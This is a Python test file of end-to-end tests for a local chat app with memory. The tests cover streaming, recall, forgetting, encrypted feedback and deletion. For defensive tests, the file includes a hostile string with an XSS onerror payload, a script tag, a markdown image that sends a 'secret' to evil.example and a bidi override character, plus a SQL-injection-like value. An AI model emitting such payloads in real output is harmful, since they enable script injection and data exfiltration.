"""Whole round trips over Chainlit's socket, against a real server and a model that talks as slowly as we like."""

from __future__ import annotations

import asyncio
import json
import shutil
import sqlite3
import uuid
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest

from memory.stores.ledger import Ledger
from privacy.encryption import KeyRing
from privacy.master_key import load_master_key
from tests.kit.chatting import Chatting, chatting
from tests.kit.serving import served
from tests.kit.talking import Talking, talking

pytestmark = pytest.mark.long

HOSTILE = (
    "<img src=x onerror=alert(1)> ![a](http://evil.example/?q=secret) <script>alert(2)</script> "
    "Re:Hello \u202eright to left\u202c `std::vector<a:b>`"
)


@pytest.fixture(scope="module")
def model() -> Iterator[tuple[Talking, dict[str, str]]]:
    with talking() as started:
        yield started


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("chat")


@pytest.fixture(scope="module")
def address(folder: Path, model: tuple[Talking, dict[str, str]]) -> Iterator[str]:
    with served(folder, **model[1]) as at:
        yield at


@pytest.fixture
def talk(model: tuple[Talking, dict[str, str]]) -> Talking:
    model[0].answer, model[0].pause = "Good morning.", 0.0
    model[0].requests.clear()
    return model[0]


KINDS_BELOW = {"step", "element", "feedback", "receipt"}  # what lies on disk for one conversation


def documents(folder: Path, where: str, *values: str) -> list[tuple[str, bytes]]:
    """Kinds and sealed bodies of the documents that lie on disk."""
    # only to be read: a connection that may write takes the log along when it goes, while the server writes into it
    with closing(sqlite3.connect(f"file:{folder / 'data' / 'ledger.sqlite3'}?mode=ro", uri=True)) as db:
        return db.execute(f"select kind, body from documents where {where}", values).fetchall()


async def taken_up(address: str, thread: str) -> list[tuple[str, str]]:
    """Who said what, as a resumed conversation shows it."""
    async with chatting(address, thread=thread) as chat:
        _, shown = await chat.until(lambda event: event[0] == "resume_thread")
        return [(step["type"], step["output"]) for step in shown["steps"] if "message" in step["type"]]


async def kept_under(chat: Chatting) -> list[dict[str, Any]]:
    """What stands under the answers of a chat when it is opened another day."""
    async with chatting(chat.address, thread=chat.thread) as again:
        _, shown = await again.until(lambda event: event[0] == "resume_thread")
        return [one["props"] for one in shown["elements"] if one["name"] == "MemoryUsed"]


async def test_the_first_chat_begins_with_a_card(address: str, talk: Talking) -> None:
    """Once, before the first message; it asks for nothing that must be answered."""
    async with chatting(address) as chat:
        ((_, card),) = [event for event in chat.events if event[0] == "element"]
        assert (card["name"], card["props"]) == ("FirstRun", {})
        assert (await chat.http.get("/api/v1/choices")).json() == {"remember": True, "chosen_at": None}
        await chat.say("Good evening.")
    async with chatting(address) as chat:
        assert [event for event in chat.events if event[0] == "element"] == []


async def test_an_answer_streams_and_names_what_it_rests_on(address: str, talk: Talking) -> None:
    """Pieces come before the end; under the answer stand the memories used, as ids, and the receipt opens."""
    async with chatting(address) as chat:
        await chat.say("My bicycle is called Henrietta.")
        talk.answer, talk.pause = "Your bicycle is called Henrietta [1].", 0.2
        begins = await chat.begin("What is my bicycle called?")
        await chat.until(lambda event: event[0] == "stream_token", after=begins)
        assert not any(event == "task_end" for event, _ in chat.events[begins:])
        answer = await chat.finish(begins)
        assert len(answer.pieces) >= 4
        assert "".join(answer.pieces) == answer.text == talk.answer
        under = answer.element("MemoryUsed")
        assert under.keys() == {"ids", "best", "considered", "receipt", "heard", "told"}
        best = under["ids"][under["best"][0]]
        memory = (await chat.http.get(f"/api/v1/memories/{best}")).json()
        assert "Henrietta" in memory["text"]
        assert under["considered"] >= 1
        # with the answer, not after it: there before the first word, with the words of the memories
        came = [event for event, _ in chat.events[begins:] if event in ("element", "stream_start")]
        assert came[:2] == ["element", "stream_start"]
        assert answer.elements[0]["props"]["told"][best]["says"] == memory["text"]
        # what is kept of it are ids
        (*_, kept) = await kept_under(chat)
        assert kept.keys() == {"ids", "best", "considered", "receipt", "heard", "told"}
        assert kept["told"][best]["says"] == memory["text"], "the words are those of today"
        receipt = (await chat.http.get(f"/api/v1/receipts/{under['receipt']}")).json()
        sent = [message["content"] for message in talk.requests[-1]["messages"]]
        assert [message["text"] for message in receipt["messages"]] == sent
        assert receipt["model"].startswith("talking")


async def test_the_words_of_many_answers_are_asked_for_at_once(address: str, talk: Talking) -> None:
    """One request tells the words of all memories of a chat and what was learned; the forgotten are not there."""
    async with chatting(address) as chat:
        talk.answer = "Noted."
        heard = (await chat.say("I live in Utrecht.")).element("MemoryUsed")["heard"]
        other = (await chat.say("My boat is called Egbertha.")).element("MemoryUsed")["heard"]
        for _ in range(100):
            asked = {"ids": [heard, other], "heard": [heard]}
            found = (await chat.http.post("/api/v1/memories/known", json=asked)).json()
            if found["taught"]:
                break
            await asyncio.sleep(0.2)
        assert found["memories"][other]["says"] == "My boat is called Egbertha."
        (learned,) = found["taught"][heard]
        assert found["memories"][learned]["says"] == "You live in Utrecht."
        await chat.http.post("/api/v1/forget", json={"ids": [heard]})
        left = (await chat.http.post("/api/v1/memories/known", json=asked)).json()
        assert left["memories"].keys() == {other}
        assert left["taught"] == {}


async def test_a_chat_opened_again_has_the_words_of_today_and_keeps_none(
    folder: Path, address: str, talk: Talking
) -> None:
    """What was forgotten has no words in it any more, and what lies on the disk has ids only."""
    async with chatting(address) as chat:
        await chat.say("My rowing boat is called Walburga.")
        answer = await chat.say("What is my rowing boat called?")
        under = answer.element("MemoryUsed")
        (used,) = [m for m in under["ids"] if "Walburga" in under["told"][m]["says"]][:1]
        (element,) = [one for one in answer.elements if one["name"] == "MemoryUsed"][:1]
        (*_, shown) = await kept_under(chat)
        assert "Walburga" in shown["told"][used]["says"]
        kept = _under_the_seal(folder, "element", element["id"])
        assert "told" not in kept["props"]
        assert "Walburga" not in json.dumps(kept)
        await chat.http.post("/api/v1/forget", json={"ids": [used]})
        (*_, shown) = await kept_under(chat)
        assert shown["told"][used] is None
        assert "Walburga" not in json.dumps(shown)
        nonsense = {"ids": ["x" * 36, ""], "heard": ["'; --"]}
        told = await chat.http.post("/api/v1/memories/known", json=nonsense)
        assert told.json() == {"memories": {}, "taught": {}}


async def test_stop_keeps_what_was_said(address: str, talk: Talking) -> None:
    """Stop ends the answer; the words of both sides so far are kept and shown again, and the chat goes on."""
    async with chatting(address) as chat:
        talk.answer, talk.pause = "one two three four five six seven eight nine ten eleven twelve", 0.4
        begins = await chat.begin("Count to twelve in my kitchen, please.")
        await chat.until(
            lambda event: event[0] == "stream_token" and "two" in event[1]["token"], after=begins
        )
        await chat.stop()
        stopped = await chat.finish(begins)
        assert stopped.text.startswith("one two")
        assert "twelve" not in stopped.text
        talk.answer, talk.pause = "Here I am.", 0.0
        assert (await chat.say("Are you still there?")).text == "Here I am."
        history = [message["content"] for message in talk.requests[-1]["messages"][1:]]
        assert history == ["Count to twelve in my kitchen, please.", stopped.text, "Are you still there?"]
        said = (await chat.http.get("/api/v1/memories", params={"words": "kitchen"})).json()["memories"]
        assert [memory["text"] for memory in said] == ["Count to twelve in my kitchen, please."]
        spoken = (await chat.http.get("/api/v1/memories", params={"words": "one two"})).json()["memories"]
        assert [memory["speaker"] for memory in spoken] == ["assistant"]
    shown = await taken_up(address, chat.thread)
    assert [text for _, text in shown] == [
        "Count to twelve in my kitchen, please.",
        stopped.text,
        "Task manually stopped.",
        "Are you still there?",
        "Here I am.",
    ]


async def test_a_conversation_is_taken_up_after_a_restart(tmp_path: Path, talk: Talking, model) -> None:
    """All messages are there again, in order, with what stood under them; the model hears them as history."""
    with served(tmp_path, **model[1]) as at:
        async with chatting(at, profile="Standard") as chat:  # as the browser names it
            for number in range(3):
                talk.answer = f"Answer {number}."
                await chat.say(f"Sentence number {number} about my garden.")
    with served(tmp_path, **model[1]) as at:
        shown = await taken_up(at, chat.thread)
        said = [text for _, text in shown]
        assert said.pop(0) == "Hello, I am Keepsake."
        assert said == [
            line for n in range(3) for line in (f"Sentence number {n} about my garden.", f"Answer {n}.")
        ]
        async with chatting(at, thread=chat.thread) as again:
            _, thread = await again.until(lambda event: event[0] == "resume_thread")
            assert [e["name"] for e in thread["elements"]].count("MemoryUsed") == 3
            talk.answer = "Gladly."
            await again.say("Go on.")
        assert [message["content"] for message in talk.requests[-1]["messages"][1:]] == [*said, "Go on."]
    log = (tmp_path / "serve.log").read_text()
    assert "Traceback" not in log
    assert "never awaited" not in log


async def test_an_unknown_conversation_is_said_to_be_unknown(address: str) -> None:
    """A thread id that is nobody's opens nothing."""
    async with chatting(address, thread=str(uuid.uuid4())) as chat:
        _, sentence = await chat.until(lambda event: event[0] == "resume_thread_error")
        assert sentence == "This chat is not here. A private chat is gone once you leave it."
        assert not any(event == "resume_thread" for event, _ in chat.events)


async def test_an_empty_message_is_answered_with_a_sentence(address: str, talk: Talking) -> None:
    """Nothing is sent to the model and nothing is remembered."""
    async with chatting(address) as chat:
        before = (await chat.http.get("/api/v1/memories")).json()["total"]
        assert "Write something" in (await chat.say(" \n ")).text
        assert (await chat.http.get("/api/v1/memories")).json()["total"] == before
        assert talk.requests == []


async def test_a_very_long_message_is_kept_whole(address: str, talk: Talking) -> None:
    """400 kB are answered, remembered whole, and the next message works."""
    long = "The orchard behind the mill has apples and pears. " * 8_000
    async with chatting(address) as chat:
        assert (await chat.say(long, timeout=240)).text == "Good morning."
        assert (await chat.say("And now?")).text == "Good morning."
    assert ("user_message", long) in await taken_up(address, chat.thread)


async def test_an_answer_is_shown_as_it_was_said(address: str, talk: Talking) -> None:
    """No image is left to be fetched, no word after a colon is dropped, code is untouched; the rest is text."""
    async with chatting(address) as chat:
        talk.answer = HOSTILE
        shown = (await chat.say("Say something nasty.")).text
        assert "![" not in shown
        assert "Re\\:Hello" in shown
        assert "`std::vector<a:b>`" in shown
        assert shown.replace("\\", "") == HOSTILE


async def test_feedback_is_sealed_and_its_words_masked(folder: Path, address: str, talk: Talking) -> None:
    """Thumbs are shown again; the comment lies sealed on disk, with placeholders for what is personal."""
    async with chatting(address) as chat:
        answer = await chat.say("Tell me something.")
        given = await chat.feedback(answer, 0, "Wrong! Write to k.wolfsberg@posteo.example.org.")
    ((_, body),) = documents(folder, "kind = 'feedback' and id = ?", given)
    assert b"wolfsberg" not in body
    assert b"Wrong" not in body
    opened = _under_the_seal(folder, "feedback", given)
    assert opened["comment"]["t"].startswith("Wrong! Write to [EMAIL_")
    assert opened["value"] == 0


def _under_the_seal(folder: Path, kind: str, id: str) -> dict[str, Any]:
    """A document as it was before it was sealed; of a copy, for the server holds the original."""
    copy = folder.parent / f"copy-{id}"
    copy.mkdir()
    for file in (folder / "data").glob("ledger.sqlite3*"):
        shutil.copy(file, copy)
    key = load_master_key(given=None, path=folder / "config" / "master.key", use_keyring=False)
    ledger = Ledger.open(copy)
    try:
        document = ledger.documents.get(kind, id)
        assert document is not None
        assert document.wrapped is not None
        cipher = KeyRing(key, ledger).unwrap(document.owner, document.key, document.wrapped)
        opened: dict[str, Any] = json.loads(
            cipher.open(document.body, f"{kind}|{id}|{document.owner}".encode())
        )
        return opened
    finally:
        ledger.close()


async def test_deleting_a_conversation_deletes_all_of_it(folder: Path, address: str, talk: Talking) -> None:
    """Thread, steps, elements, feedback and receipts are gone from the disk; another conversation is not."""
    async with chatting(address) as other, chatting(address) as chat:
        await other.say("This one stays.")
        answer = await chat.say("This one goes.")
        await chat.feedback(answer, 1, "Good.")
        receipt = answer.element("MemoryUsed")["receipt"]
        for _ in range(600):  # Chainlit writes steps beside the answer
            below = {kind for kind, _ in documents(folder, "parent = ?", chat.thread)}
            if below == KINDS_BELOW:
                break
            await asyncio.sleep(0.1)
        assert below == KINDS_BELOW
        gone = await chat.http.request("DELETE", "/project/thread", json={"threadId": chat.thread})
        assert gone.status_code == 200
        assert documents(folder, "parent = ? or id = ?", chat.thread, chat.thread) == []
        assert (await chat.http.get(f"/api/v1/receipts/{receipt}")).status_code == 404
        assert documents(folder, "id = ?", other.thread) != []


async def test_memory_can_be_turned_off(address: str, talk: Talking) -> None:
    """Off: nothing is kept, nothing is used, looking and forgetting go on; on again: as before."""
    async with chatting(address) as chat:
        await chat.say("My canary is called Ferdinand.")
        made = (await chat.http.put("/api/v1/choices", json={"remember": False})).json()
        assert not made["remember"]
        assert made["chosen_at"]
    async with chatting(address) as chat:
        answer = await chat.say("What is my canary called? My parrot is called Isolde.")
        assert answer.element("MemoryUsed")["ids"] == []
        assert "Ferdinand" not in json.dumps(talk.requests[-1])
        of_the_parrot = await chat.http.get("/api/v1/memories", params={"words": "Isolde"})
        assert of_the_parrot.json()["total"] == 0
        refused = await chat.http.post("/api/v1/memories", json={"text": "I have a parrot."})
        assert refused.status_code == 409
        assert "Memory is off" in refused.json()["error"]
        assert "Memory is off" in (await chat.http.get("/memory")).text
        canary = (await chat.http.get("/api/v1/memories", params={"words": "Ferdinand"})).json()["memories"]
        ids = [memory["id"] for memory in canary]
        done = await chat.http.post("/api/v1/forget", json={"ids": ids, "now": True})
        assert done.json()["state"] == "destroyed"
        await chat.http.put("/api/v1/choices", json={"remember": True})
        await chat.say("My parrot is called Isolde.")
        found = await chat.http.get("/api/v1/memories", params={"words": "Isolde"})
        assert found.json()["total"] >= 1


async def test_the_page_says_which_model_answers(address: str) -> None:
    """Name and place stand on the memory page and in the status, which the chat shows below its composer."""
    async with chatting(address) as chat:
        status = (await chat.http.get("/api/v1/status")).json()
        assert status["says"] == "Answers come from talking (on this machine)."
        assert status["limits"] == ""
        assert status["says"] in (await chat.http.get("/memory")).text
